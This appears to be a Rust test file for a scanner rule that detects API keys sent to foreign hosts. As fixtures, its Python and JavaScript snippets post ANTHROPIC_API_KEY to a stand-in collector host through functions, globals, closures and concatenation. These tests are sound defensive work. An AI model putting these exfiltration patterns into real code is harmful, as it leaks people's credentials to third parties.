//! Following values through functions: a name one function assigns is its own (Python; JS/TS
//! declarations), and the name an assignment gives a new value is not read by it.

use super::*;
use crate::scan::judge::code;

const RULE: &str = "exfiltration.key-to-foreign-host";

#[test]
fn each_providers_function_sends_its_own_key() {
    // Two backends in one file, the same local names in both.
    let two = "import os, json, urllib.request\n\n\
               def ask_claude(prompt):\n    key = os.environ['ANTHROPIC_API_KEY']\n    \
               req = urllib.request.Request('https://api.anthropic.com/v1/messages', \
               data=json.dumps({'p': prompt}).encode(), headers={'x-api-key': key})\n    \
               return urllib.request.urlopen(req).read()\n\n\
               def ask_gpt(prompt):\n    key = os.environ['OPENAI_API_KEY']\n    \
               req = urllib.request.Request('https://api.openai.com/v1/responses', \
               data=json.dumps({'p': prompt}).encode(), headers={'Authorization': 'Bearer ' + key})\n    \
               return urllib.request.urlopen(req).read()\n";
    assert_eq!(worst(&[("scripts/llm.py", two)], RULE), None);
    // The same in JavaScript, each key declared in its own function.
    let js = "async function claude(p) {\n  const key = process.env.ANTHROPIC_API_KEY;\n  \
              return fetch('https://api.anthropic.com/v1/messages', {method: 'POST', \
              headers: {'x-api-key': key}, body: p});\n}\n\n\
              async function gpt(p) {\n  const key = process.env.OPENAI_API_KEY;\n  \
              return fetch('https://api.openai.com/v1/responses', {method: 'POST', \
              headers: {Authorization: `Bearer ${key}`}, body: p});\n}\n";
    assert_eq!(worst(&[("scripts/llm.mjs", js)], RULE), None);
}

#[test]
fn a_key_still_reaches_a_foreign_host_through_a_function() {
    // Read in one function and returned, sent by another: the function's result carries it.
    let ret = "import os, requests\n\n\
               def creds():\n    k = os.environ['ANTHROPIC_API_KEY']\n    return k\n\n\
               def report():\n    requests.post('https://collect.metrics-relay.example/k', data={'k': creds()})\n";
    assert_eq!(worst(&[("scripts/r.py", ret)], RULE), Some(Critical));
    // A module-level name read inside a function is not that function's own.
    let module = "import os, requests\nK = os.environ['ANTHROPIC_API_KEY']\n\n\
                  def report():\n    requests.post('https://collect.metrics-relay.example/k', data={'k': K})\n";
    assert_eq!(worst(&[("scripts/r.py", module)], RULE), Some(Critical));
    // `global`: the function assigns the module's name, which another function sends.
    let global = "import os, requests\nK = None\n\n\
                  def load():\n    global K\n    K = os.environ['ANTHROPIC_API_KEY']\n\n\
                  def report():\n    requests.post('https://collect.metrics-relay.example/k', data={'k': K})\n";
    assert_eq!(worst(&[("scripts/r.py", global)], RULE), Some(Critical));
    // A local reassigned inside the function keeps the module's value outside it.
    let shadow = "import os, requests\nK = os.environ['ANTHROPIC_API_KEY']\n\n\
                  def other():\n    K = 'unused'\n    return K\n\n\
                  requests.post('https://collect.metrics-relay.example/k', data={'k': K})\n";
    assert_eq!(worst(&[("scripts/r.py", shadow)], RULE), Some(Critical));
    // A nested function reads its enclosing function's locals.
    let nested = "async function main() {\n  const key = process.env.ANTHROPIC_API_KEY;\n  \
                  const send = async () => {\n    await fetch('https://collect.metrics-relay.example/k', \
                  {method: 'POST', body: key});\n  };\n  await send();\n}\n";
    assert_eq!(worst(&[("scripts/r.mjs", nested)], RULE), Some(Critical));
}

#[test]
fn the_name_an_assignment_sets_is_not_read_by_it() {
    // `req` carried the Anthropic key to Anthropic; the last line builds a new request to another
    // host under the same name. (A later read of `req` would still carry the key: a name keeps
    // what it ever carried in its scope, so a branch that overwrites it cannot hide a flow.)
    let reuse = "import os, urllib.request\n\
                 key = os.environ['ANTHROPIC_API_KEY']\n\
                 req = urllib.request.Request('https://api.anthropic.com/v1/messages', headers={'x-api-key': key})\n\
                 urllib.request.urlopen(req)\n\
                 req = urllib.request.Request('https://status.example.org/ping', data=b'up')\n";
    assert_eq!(worst(&[("scripts/ping.py", reuse)], RULE), None);
    // A value that reads the name still carries what the name carried.
    let grows = "import os, requests\n\
                 body = os.environ['ANTHROPIC_API_KEY']\n\
                 body = body + '&from=cli'\n\
                 requests.post('https://collect.metrics-relay.example/k', data=body)\n";
    assert_eq!(worst(&[("scripts/r.py", grows)], RULE), Some(Critical));
    assert_eq!(code::overwritten("req = Request(url)"), Some("req"));
    assert_eq!(
        code::overwritten("const req = new Request(url)"),
        Some("req")
    );
    assert_eq!(code::overwritten("X=$(cat f)"), Some("X"));
    assert_eq!(code::overwritten("x = x + 1"), None);
    assert_eq!(code::overwritten("x += 1"), None);
    assert_eq!(code::overwritten("x == 1"), None);
    assert_eq!(code::overwritten("send(x)"), None);
}
